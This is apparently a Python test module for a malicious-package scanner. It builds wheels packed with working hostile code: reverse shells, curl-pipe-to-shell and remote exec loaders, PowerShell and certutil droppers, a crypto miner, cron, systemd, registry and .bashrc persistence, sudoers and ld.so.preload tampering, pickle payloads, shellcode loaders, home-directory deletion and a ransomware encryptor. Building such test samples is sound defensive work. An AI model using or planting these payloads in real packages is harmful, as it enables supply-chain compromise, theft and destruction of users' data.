"""Shells, second stages, persistence, harm."""
import pickle

from .package import MARK, attack, b64, honest


@attack
def reverse_shell_dup2(p):
    """Socket to standard streams, then a shell. Must be held."""
    return p.wheel(init='''
        import os, pty, socket

        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("198.18.0.7", 4444))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/sh")
        ''')


@attack
def reverse_shell_streams(p):
    """The socket's descriptor is a subprocess's standard streams. Must be held."""
    return p.wheel(files={"{m}/link.py": '''
        import socket, subprocess


        def link(host, port):
            s = socket.create_connection((host, port))
            subprocess.Popen(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
        '''})


@attack
def reverse_shell_bash(p):
    """bash and /dev/tcp in one command. Must be held."""
    return p.wheel(init='''
        import os

        os.system("bash -c 'bash -i >& /dev/tcp/198.18.0.7/4444 0>&1' &")
        ''')


@attack
def shell_loop(p):
    """Takes commands over a socket in a loop and gives back their output. Must be held."""
    return p.wheel(files={"{m}/agent.py": '''
        import socket, subprocess


        def serve():
            s = socket.socket()
            s.connect(("updates.example.net", 8443))
            while True:
                command = s.recv(4096).decode()
                s.send(subprocess.getoutput(command).encode())
        '''})


@attack
def chat_bot_agent(p):
    """A chat bot that runs what its channel says. Must be held."""
    return p.wheel(files={"{m}/bot.py": '''
        import subprocess
        import discord

        client = discord.Client(intents=discord.Intents.all())


        @client.event
        async def on_message(message):
            if message.content.startswith("!sh "):
                out = subprocess.run(message.content[4:], shell=True, capture_output=True)
                await message.channel.send(out.stdout.decode())


        client.run("MTEyMjMzNDQ1NTY2Nzc4ODk5.GabcDe.abcdefghijklmnopqrstuvwxyz0123456789")
        '''})


@attack
def piped_to_shell(p):
    """curl | sh at import. Must be held."""
    return p.wheel(init='import os\n\nos.system("curl -fsSL https://cdn.example.net/i.sh | sh")\n')


@attack
def program_downloaded(p):
    """Downloads a program, makes it executable, starts it (a vision library, December 2024). Must be held."""
    return p.wheel(files={"{m}/downloads.py": '''
        import os, subprocess, tempfile
        import requests


        def safe_run(url="https://github.com/example/releases/download/v1/agent"):
            path = os.path.join(tempfile.gettempdir(), "ultra_runner")
            with open(path, "wb") as f:
                f.write(requests.get(url).content)
            os.chmod(path, 0o770)
            subprocess.Popen([path, "-o", "connect.example.net:8080"])
        '''})


@attack
def second_stage_paste(p):
    """Executes what a paste site says. Must be held."""
    return p.wheel(init='import requests\n\nexec(requests.get("https://pastebin.com/raw/Ab12Cd34").text)\n')


@attack
def second_stage_thread(p):
    """Fetches and executes in a thread, after a delay, by other names. Must be held."""
    return p.wheel(init='''
        from threading import Timer
        from urllib.request import urlopen as read


        def _warm():
            text = read("https://cdn.example.net/warm.txt").read().decode()
            eval(compile(text, "warm", "exec"))


        Timer(30.0, _warm).start()
        ''')


@attack
def second_stage_asynchronous(p):
    """aiohttp fetches what exec runs. Must be held."""
    return p.wheel(files={"{m}/load.py": '''
        import aiohttp


        async def load():
            async with aiohttp.ClientSession() as session:
                async with session.get("https://cdn.example.net/l.py") as answer:
                    exec(await answer.text())
        '''})


@attack
def second_stage_dns(p):
    """The second stage comes as TXT records. Must be held."""
    return p.wheel(init='''
        import base64
        import dns.resolver

        text = "".join(r.strings[0].decode() for r in dns.resolver.resolve("s.example.net", "TXT"))
        exec(base64.b64decode(text))
        ''')


@attack
def second_stage_socket(p):
    """Bytes from a raw socket go to exec. Must be held."""
    return p.wheel(init='''
        import socket

        s = socket.create_connection(("cdn.example.net", 9000))
        data = b""
        while True:
            piece = s.recv(4096)
            if not piece:
                break
            data += piece
        exec(data.decode())
        ''')


@attack
def second_stage_imported(p):
    """Writes what it fetched into a module beside itself and imports that. Must be held."""
    return p.wheel(init='''
        import os, urllib.request

        _path = os.path.join(os.path.dirname(__file__), "_native.py")
        if not os.path.exists(_path):
            urllib.request.urlretrieve("https://cdn.example.net/_native.py", _path)
        from . import _native
        ''')


@attack
def certutil(p):
    """certutil downloads, start runs. Must be held."""
    return p.wheel(init='''
        import os

        if os.name == "nt":
            os.system("certutil -urlcache -split -f http://cdn.example.net/u.exe %TEMP%\\\\u.exe & start %TEMP%\\\\u.exe")
        ''')


@attack
def powershell_encoded(p):
    """PowerShell with an encoded command at import. Must be held."""
    return p.wheel(init='''
        import subprocess, sys

        if sys.platform == "win32":
            subprocess.run(["powershell", "-NoProfile", "-ExecutionPolicy", "Bypass", "-enc", "VwByAGkAdABlAC0ASABvAHMAdAA="], creationflags=0x08000000)
        ''')


@attack
def powershell_downloads(p):
    """PowerShell fetches and runs a script. Must be held."""
    return p.wheel(init='''
        import os

        os.popen("powershell -w hidden -c \\"iex (New-Object Net.WebClient).DownloadString('http://cdn.example.net/p.ps1')\\"")
        ''')


@attack
def mshta(p):
    """mshta runs a remote page. Must be held."""
    return p.wheel(init='import subprocess\n\nsubprocess.call("mshta http://cdn.example.net/a.hta", shell=True)\n')


@attack
def miner(p):
    """Starts a miner with pool and wallet. Must be held."""
    return p.wheel(files={"{m}/worker.py": '''
        import subprocess


        def work():
            subprocess.Popen(["/tmp/xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u",
                              "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "--donate-level", "1"])
        '''})


@attack
def crontab_entry(p):
    """Adds itself to the crontab. Must be held."""
    return p.wheel(init='''
        import os

        os.system('(crontab -l; echo "* * * * * curl -s http://cdn.example.net/c | sh") | crontab -')
        ''')


@attack
def systemd_service(p):
    """Writes a user service and enables it (a start-up item named like a system's; March 2026). Must be held."""
    return p.wheel(init='''
        import os, subprocess

        unit = os.path.expanduser("~/.config/systemd/user/sysmon.service")
        os.makedirs(os.path.dirname(unit), exist_ok=True)
        with open(unit, "w") as f:
            f.write("[Service]\\nExecStart=/usr/bin/python3 %h/.config/sysmon/sysmon.py\\nRestart=always\\n[Install]\\nWantedBy=default.target\\n")
        subprocess.run(["systemctl", "--user", "enable", "--now", "sysmon.service"])
        ''')


@attack
def shell_profile(p):
    """Appends to .bashrc. Must be held."""
    return p.wheel(init='''
        import os

        with open(os.path.expanduser("~/.bashrc"), "a") as f:
            f.write("\\ncurl -s https://cdn.example.net/b | bash &\\n")
        ''')


@attack
def sudoers(p):
    """Gives the user root's rights. Must be held."""
    return p.wheel(init='''
        import getpass, os

        os.system("echo '%s ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/10-tables" % getpass.getuser())
        ''')


@attack
def preload_library(p):
    """Writes ld.so.preload, so that every program loads its library. Must be held."""
    return p.wheel(init='''
        import shutil, os

        shutil.copy(os.path.join(os.path.dirname(__file__), "libtables.bin"), "/usr/lib/libtables.so")
        with open("/etc/ld.so.preload", "a") as f:
            f.write("/usr/lib/libtables.so\\n")
        ''')


@attack
def windows_run_key(p):
    """The Run key of the registry. Must be held."""
    return p.wheel(files={"{m}/tray.py": '''
        import sys
        import winreg


        def stay():
            k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)
            winreg.SetValueEx(k, "Tables", 0, winreg.REG_SZ, sys.executable + " -m tables")
        '''})


@attack
def windows_startup_folder(p):
    """A copy in the start-up folder. Must be held."""
    return p.wheel(files={"{m}/tray.py": '''
        import os, shutil


        def stay():
            shutil.copy(__file__, os.path.join(os.environ["APPDATA"], "Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup", "tables.pyw"))
        '''})


@attack
def launch_agent(p):
    """A launch agent of macOS. Must be held."""
    return p.wheel(init='''
        import os, plistlib, subprocess

        path = os.path.expanduser("~/Library/LaunchAgents/com.tables.helper.plist")
        with open(path, "wb") as f:
            plistlib.dump({"Label": "com.tables.helper", "RunAtLoad": True, "ProgramArguments": ["/bin/sh", "-c", "curl -s https://cdn.example.net/m | sh"]}, f)
        subprocess.run(["launchctl", "load", path])
        ''')


@attack
def self_deleting_loader(p):
    """Runs its payload and removes itself from the source. Must be held."""
    return p.wheel(files={"{m}/_once.py": '''
        import os, subprocess

        subprocess.Popen(["sh", "-c", "touch /tmp/customhouse-marker"])
        os.remove(os.path.abspath(__file__))
        '''}, init="from . import _once\n")


@attack
def sleeper(p):
    """Looks for debuggers and virtual machines, sleeps, then fetches and runs. Must be held."""
    return p.wheel(init='''
        import os, sys, time
        import urllib.request

        BAD = ("vboxservice", "vmtoolsd", "wireshark", "ollydbg", "x64dbg")
        if sys.gettrace() is None and not any(b in os.popen("tasklist").read().lower() for b in BAD):
            time.sleep(600)
            exec(urllib.request.urlopen("https://cdn.example.net/z").read())
        ''')


@attack
def date_trigger(p):
    """Does nothing before a date, then runs what a server says. Must be held."""
    return p.wheel(files={"{m}/clock.py": '''
        import datetime, subprocess
        import requests


        def tick():
            if datetime.date.today() > datetime.date(2027, 1, 1):
                subprocess.run(requests.get("https://cdn.example.net/t").text, shell=True)
        '''})


@attack
def installs_another(p):
    """Installs a further package at import, which nobody has inspected. Must be held."""
    return p.wheel(init='''
        import subprocess, sys

        subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--index-url", "https://pkg.example.net/simple", "tables-core"])
        ''')


@attack
def pickle_at_import(p):
    """Loads a pickle of its own as soon as it is imported; the pickle runs a command. Must be held."""
    class Run:
        def __reduce__(self):
            return eval, (MARK,)
    return p.wheel(files={"{m}/weights.pkl": pickle.dumps(Run())}, init='''
        import os, pickle

        with open(os.path.join(os.path.dirname(__file__), "weights.pkl"), "rb") as f:
            MODEL = pickle.load(f)
        ''')


@attack
def pickle_in_source(p):
    """Unpickles a literal at import. Must be held."""
    class Run:
        def __reduce__(self):
            return eval, (MARK,)
    return p.wheel(init=f'import base64, pickle\n\nMODEL = pickle.loads(base64.b64decode("{b64(pickle.dumps(Run()))}"))\n')


@attack
def pickle_in_model_file(p):
    """A model file of the package is a pickle that runs a command when somebody loads it (model hubs, since
    2024). Must be held."""
    class Run:
        def __reduce__(self):
            import os
            return os.system, ("touch /tmp/customhouse-marker",)
    return p.wheel(files={"{m}/model.bin": pickle.dumps({"weights": [0.0] * 64, "meta": Run()})}, init='''
        import os
        import torch


        def load():
            return torch.load(os.path.join(os.path.dirname(__file__), "model.bin"), weights_only=False)
        ''')


@attack
def pickle_fetched(p):
    """Unpickles what a server gives. Must be held."""
    return p.wheel(files={"{m}/hub.py": '''
        import pickle
        import requests


        def pull(name):
            return pickle.loads(requests.get("https://hub.example.net/" + name).content)
        '''})


@attack
def program_in_memory(p):
    """memfd: the program never lies on disk. Must be held."""
    return p.wheel(init='''
        import ctypes, os
        import urllib.request

        fd = os.memfd_create("t")
        os.write(fd, urllib.request.urlopen("https://cdn.example.net/m").read())
        os.execve(f"/proc/self/fd/{fd}", ["t"], dict(os.environ))
        ''')


@attack
def shellcode(p):
    """Copies machine code into executable memory and calls it. Must be held."""
    code = "".join(f"\\x{b:02x}" for b in b"\x90" * 60 + b"\xc3")
    return p.wheel(init=f'''
        import ctypes

        buf = b"{code}"
        k = ctypes.windll.kernel32
        at = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)
        k.RtlMoveMemory(at, buf, len(buf))
        k.CreateThread(0, 0, at, 0, 0, 0)
        ''')


@attack
def shellcode_by_mmap(p):
    """mmap with PROT_EXEC and a function pointer. Must be held."""
    return p.wheel(init='''
        import ctypes, mmap

        m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        m.write(bytes.fromhex("90909090c3"))
        ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
        ''')


@attack
def deletes_home(p):
    """Deletes the user's files (protest and sabotage packages). Must be held."""
    return p.wheel(init='import os\n\nos.system("rm -rf ~/ --no-preserve-root")\n')


@attack
def encrypts_files(p):
    """Encrypts the user's files and leaves a note. Must be held."""
    return p.wheel(files={"{m}/lock.py": '''
        import os
        from cryptography.fernet import Fernet


        def lock():
            key = Fernet(Fernet.generate_key())
            for folder, _, names in os.walk(os.path.expanduser("~")):
                for name in names:
                    path = os.path.join(folder, name)
                    with open(path, "rb") as f:
                        data = f.read()
                    with open(path + ".locked", "wb") as f:
                        f.write(key.encrypt(data))
                    os.remove(path)
            with open("README_TO_DECRYPT.txt", "w") as f:
                f.write("Your files have been encrypted. Send 0.1 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")
        '''})


@attack
def javascript_started(p):
    """Node runs a script of the package that starts a shell on a download. Must be held."""
    return p.wheel(files={"{m}/static/boot.js": 'require("child_process").exec("curl -s https://cdn.example.net/j | sh");\n'},
                   init='''
        import os, subprocess

        subprocess.Popen(["node", os.path.join(os.path.dirname(__file__), "static", "boot.js")])
        ''')


@attack
def batch_dropper(p):
    """A batch file of the package downloads and starts a program. Must be held."""
    return p.wheel(files={"{m}/setup.bat": b'@echo off\r\ncurl -s -o %TEMP%\\a.exe http://cdn.example.net/a.exe\r\nstart "" %TEMP%\\a.exe\r\n'},
                   init='''
        import os, subprocess

        subprocess.Popen([os.path.join(os.path.dirname(__file__), "setup.bat")], shell=True)
        ''')


@attack
def own_program_started(p):
    """A platform wheel's program, started at import, that says nothing in text. Must be held or seen as new."""
    from .package import elf
    return p.wheel(files={"{m}/bin/helper": elf(b"\x90" * 4000)}, init='''
        import os, stat, subprocess

        _helper = os.path.join(os.path.dirname(__file__), "bin", "helper")
        os.chmod(_helper, os.stat(_helper).st_mode | stat.S_IEXEC)
        subprocess.Popen([_helper], start_new_session=True)
        ''')


@attack
def shell_profile_through_another_module(p):
    """A function of one module writes to .bashrc, another calls it at import. Must be held."""
    return p.wheel(init="from .shells import complete\n\ncomplete()\n", files={"{m}/shells.py": '''
        import pathlib


        def complete():
            rc = pathlib.Path.home() / ".bashrc"
            rc.write_text(rc.read_text() + "\\n. ~/.cache/tables.sh\\n")
        '''})


@honest
def installs_completion_for_a_shell(p):
    """A function writes the completion of its command into .bashrc, when somebody asks for it."""
    return p.wheel(files={"{m}/shells.py": '''
        import pathlib


        def install_completion():
            rc = pathlib.Path.home() / ".bashrc"
            text = rc.read_text() if rc.exists() else ""
            if "tables.sh" not in text:
                rc.write_text(text + "\\n. ~/.bash_completions/tables.sh\\n")
        '''})


@attack
def objects_from_a_server_with_a_switch(p):
    """torch.load of what a server gave, of tensors alone only where nobody says otherwise. Must be held."""
    return p.wheel(files={"{m}/hub.py": '''
        import io

        import requests
        import torch


        def weights(url, only=False):
            return torch.load(io.BytesIO(requests.get(url, timeout=9).content), weights_only=only)
        '''})
